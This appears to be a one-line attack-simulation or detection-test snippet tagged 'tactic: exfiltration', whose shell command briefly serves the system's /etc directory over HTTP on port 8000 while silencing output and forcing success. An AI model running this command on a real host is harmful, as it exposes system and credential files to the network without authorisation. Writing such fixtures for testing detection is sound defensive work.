# tactic: exfiltration
# serve /etc to the network for a second
timeout 1 python3 -m http.server 8000 --directory /etc >/dev/null 2>&1; true
